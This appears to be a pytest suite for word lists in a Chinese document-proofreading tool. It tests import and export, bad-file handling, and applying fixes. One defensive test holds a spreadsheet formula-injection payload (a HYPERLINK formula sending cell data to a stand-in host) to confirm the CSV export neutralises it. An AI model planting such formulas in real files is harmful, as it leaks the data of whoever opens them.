"""Word lists: CRUD in the database, CSV/YAML import and export round trip, bad files, findings and fixes."""

from __future__ import annotations

import pytest

from drafter.documents.draft import VersionSource
from drafter.errors import InputError
from drafter.proofreading import review_draft, review_sections
from drafter.proofreading.fixes import apply_fix, apply_fixes, ignore, unignore_all
from drafter.proofreading.wordlists import WordEntry, WordLists, parse_entries
from drafter.storage.store import DraftStore
from tests.storage.test_store import make_draft


@pytest.fixture
def lists(db_url):
    """Word lists on a new SQLite file and on a new database of the test PostgreSQL cluster (tests/conftest.py)."""
    store = DraftStore(db_url)
    yield WordLists(store)
    store.close()


def test_crud(lists):
    i = lists.add(WordEntry(wrong="XX街道办", right="XX街道办事处", note="全称"))
    lists.add(WordEntry(list_name="禁用词", wrong="搞定"))
    assert [s.entry.wrong for s in lists.all()] == ["XX街道办", "搞定"]  # by list name, then wrong form
    assert lists.names() == ["本单位词表", "禁用词"]
    lists.update(i, WordEntry(wrong="XX街道办", right="XX街道办事处", note="用全称"))
    assert lists.all("本单位词表")[0].entry.note == "用全称"
    assert lists.add(WordEntry(wrong="XX街道办", right="新写法")) == i  # same list and wrong form: updated
    with pytest.raises(InputError, match="已有"):
        j = lists.add(WordEntry(wrong="别的"))
        lists.update(j, WordEntry(wrong="XX街道办"))
    lists.delete(i)
    assert lists.delete_list("禁用词") == 1
    assert [s.entry.wrong for s in lists.all()] == ["别的"]


@pytest.mark.parametrize("fmt", ["csv", "yaml"])
def test_export_import_round_trip(lists, tmp_path, fmt):
    entries = [WordEntry(wrong="党建引领,", right="党建引领", note="带逗号的, 说明"),
               WordEntry(list_name="禁用词", wrong="搞定"),
               WordEntry(wrong="“三会一课”制", right="“三会一课”制度")]
    for e in entries:
        lists.add(e)
    text = lists.export(fmt)
    other = WordLists(DraftStore(f"sqlite:///{tmp_path / 'other.db'}"))
    result = other.import_file(text.encode("utf-8"), fmt)
    assert (result.added, result.updated, result.skipped) == (3, 0, [])
    assert set(other.entries()) == set(entries)
    again = other.import_file(text, fmt)
    assert (again.added, again.updated) == (0, 3)


def test_csv_from_excel_without_header_and_gbk(lists):
    data = "错误写法,建议写法\n贯切,贯彻\n".encode("gb18030")  # Excel on Chinese Windows saves GBK
    with pytest.raises(InputError):
        parse_entries(b"", "csv")
    r = lists.import_file("贯切,贯彻\n搞定\n", "csv")
    assert r.added == 2 and lists.all()[0].entry.wrong in ("贯切", "搞定")
    entries, skipped = parse_entries(data, "csv")
    assert entries == [WordEntry(wrong="贯切", right="贯彻")] and not skipped


@pytest.mark.parametrize(("data", "fmt", "message"), [
    (b"", "csv", "词表文件是空的"),
    (b"   \n\n", "yaml", "词表文件是空的"),
    (b"entries: [wrong: x", "yaml", "YAML 文件格式有误"),
    (b"just a string", "yaml", "entries"),
    (b"entries:\n  - right: only\n", "yaml", "缺少错误写法"),
    (b"a,b,c,d,e,f\n1,2,3,4,5,6\n", "csv", "表头"),
    (b"\xff\xfe\x00garbage\x81\x00", "csv", "编码"),
    (b"x" * (3 * 1024 * 1024), "csv", "太大"),
])
def test_bad_files_are_clear_and_change_nothing(lists, data, fmt, message):
    lists.add(WordEntry(wrong="保留", right="留存"))
    with pytest.raises(InputError, match=message) as info:
        lists.import_file(data, fmt)
    assert info.value.hint  # says how to fix
    assert [s.entry.wrong for s in lists.all()] == ["保留"]


def test_partly_bad_file_imports_good_rows_and_names_the_bad(lists):
    r = lists.import_file("错误写法,建议写法\n好,很好\n,空\n同,同\n好,重复\n", "csv")
    assert r.added == 1 and len(r.skipped) == 3 and "第3行" in r.summary()


def test_list_findings_fix_and_ignore(lists):
    lists.add(WordEntry(wrong="街道办", right="街道办事处"))
    lists.add(WordEntry(list_name="禁用词", wrong="搞定"))
    d = make_draft()
    sec = d.sections[1]
    sec.record("支部联合街道办开展活动，问题全部搞定。", VersionSource.GENERATED)
    found = [f for f in review_draft(d, lists.entries()) if f.rule == "wordlist"]
    assert [(f.text, f.fix, f.severity) for f in found] == [("街道办", "街道办事处", "warning"),
                                                             ("搞定", None, "error")]
    apply_fix(d, found[0])
    assert sec.text == "支部联合街道办事处开展活动，问题全部搞定。"
    assert sec.versions[-1].source == VersionSource.PROOFREAD and "街道办" in sec.versions[-1].label
    with pytest.raises(InputError):
        apply_fix(d, found[1])  # no replacement for a banned word
    with pytest.raises(InputError, match="又被修改"):
        apply_fix(d, found[0])  # applied already (a second click)
    assert not [f for f in review_draft(d, lists.entries()) if f.text == "街道办"]  # 街道办事处 is right
    ignore(d, found[1])
    assert not [f for f in review_draft(d, lists.entries()) if f.rule == "wordlist"]
    assert d.model_validate_json(d.model_dump_json()).ignored == [found[1].key]
    assert unignore_all(d) == 1 and [f.text for f in review_draft(d, lists.entries()) if f.rule == "wordlist"] \
        == ["搞定"]


def test_fix_all_makes_one_version(lists):
    d = make_draft()
    sec = d.sections[1]
    sec.record("支部召开会议,学习条例;完成任务。。", VersionSource.GENERATED)
    n = len(sec.versions)
    found = review_draft(d)
    assert apply_fixes(d, [f for f in found if f.section_id == sec.id]) == 3
    assert sec.text == "支部召开会议，学习条例；完成任务。" and len(sec.versions) == n + 1


def test_formulation_wins_over_the_same_words_in_a_list():
    found = review_sections([("s", "", "做为党员。", None)], None, 2025,
                            word_entries=[WordEntry(wrong="做为", right="作为")])
    assert [f.rule for f in found if f.text == "做为"] == ["formulation"]


def test_check_cli_takes_word_list_files(tmp_path, capsys):
    from drafter.cli import main

    draft = tmp_path / "d.md"
    draft.write_text("# 某支部2025年度工作总结\n\n支部联合街道办开展活动。\n", encoding="utf-8")
    words = tmp_path / "words.csv"
    words.write_text("错误写法,建议写法\n街道办,街道办事处\n", encoding="utf-8")
    main(["check", str(draft), "--year", "2025", "--wordlist", str(words)])
    assert "街道办事处" in capsys.readouterr().out
    assert main(["check", str(draft), "--year", "2025", "--wordlist", str(tmp_path / "none.csv")]) == 2


def test_fix_all_of_a_group_and_ignore_a_group():
    from drafter.proofreading.grouping import group_findings

    d = make_draft()
    sec = d.sections[1]
    sec.record("支部召开会议,学习条例,完成任务,党的十八以来。", VersionSource.GENERATED)
    groups = group_findings(f for f in review_draft(d) if f.section_id == sec.id)
    commas = next(f for f in groups if f.rule == "punctuation")
    assert commas.count == 3
    assert apply_fixes(d, [commas]) == 3
    assert sec.text == "支部召开会议，学习条例，完成任务，党的十八以来。"
    rest = group_findings(f for f in review_draft(d) if f.section_id == sec.id)
    ignore(d, next(f for f in rest if f.rule == "formulation"))
    assert not [f for f in review_draft(d) if f.section_id == sec.id and f.rule == "formulation"]


def test_csv_export_cannot_carry_a_formula(lists, tmp_path):
    evil = [WordEntry(wrong='=HYPERLINK("http://x/?"&A1,"点")', right="+1", note="-2"),
            WordEntry(list_name="@list", wrong="好", right="@好")]
    for e in evil:
        lists.add(e)
    text = lists.export("csv")
    cells = [c for line in text.splitlines()[1:] for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), text
    other = WordLists(DraftStore(f"sqlite:///{tmp_path / 'other.db'}"))
    other.import_file(text, "csv")
    assert set(other.entries()) == set(evil)  # the ' comes off again on import


def test_total_entries_capped(lists, monkeypatch):
    import drafter.proofreading.wordlists as wl

    monkeypatch.setattr(wl, "MAX_TOTAL", 3)
    lists.import_file("错误写法,建议写法\n甲,乙\n丙,丁\n", "csv")
    with pytest.raises(InputError, match="上限 3 条"):
        lists.import_file("错误写法,建议写法\n戊,己\n庚,辛\n", "csv")
    assert len(lists.all()) == 2
